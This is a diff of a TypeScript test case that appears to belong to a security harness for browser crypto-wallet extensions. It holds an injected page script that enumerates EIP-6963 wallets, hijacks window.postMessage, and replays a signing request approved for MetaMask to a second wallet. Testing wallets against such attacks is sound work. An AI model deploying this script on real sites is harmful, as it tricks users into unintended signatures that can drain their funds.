@@ -1,6 +1,6 @@
 import type { Attack } from '../Attack.ts';
 
-/** The same bytes, and another wallet behind the channel. */
+/** The same bytes, and behind the channel another wallet with another key. */
 export const attack: Attack = {
   entry: 'window.postMessage to the wallet, older names',
   mechanism: 'approved for the first wallet, which the page keeps it from, then posted to the second',
@@ -8,13 +8,14 @@ export const attack: Attack = {
   path: '/?other-wallet=0',
   script: `
 await kit.ready();
-const wallet = await new Promise((go) => {
-  addEventListener('eip6963:announceProvider', ({ detail }) => { if (detail.info.rdns === 'io.metamask') go(detail.provider); });
-  dispatchEvent(new Event('eip6963:requestProvider'));
-});
+const wallets = {};
+addEventListener('eip6963:announceProvider', ({ detail }) => { wallets[detail.info.rdns] = detail.provider; });
+dispatchEvent(new Event('eip6963:requestProvider'));
+while (Object.keys(wallets).length < 2) await kit.sleep(10);
+for (const one of Object.values(wallets)) await one.request({ method: 'eth_requestAccounts' });
 const { postMessage } = window;
 window.postMessage = function (data, ...rest) { if (data?.data?.data?.method !== 'personal_sign') return postMessage.call(this, data, ...rest); };
-wallet.request(kit.sign()).catch(() => undefined);
+wallets['io.metamask'].request(kit.sign()).catch(() => undefined);
 window.go = () => { postMessage.call(window, { target: 'contentscript', data: { name: 'provider', data: kit.rpc(kit.sign()) } }, location.origin); };
 `,
   drive: async ({ page, approve, marker }) => {
